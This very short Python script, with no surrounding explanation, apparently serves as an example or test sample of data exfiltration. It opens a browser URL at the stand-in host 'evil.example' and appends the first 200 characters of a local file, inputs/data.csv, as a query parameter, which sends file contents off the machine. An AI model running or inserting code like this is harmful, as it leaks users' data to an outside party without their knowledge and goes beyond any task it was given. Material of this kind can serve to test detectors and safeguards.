import webbrowser

webbrowser.open("http://evil.example/?d=" + open("inputs/data.csv").read(200))
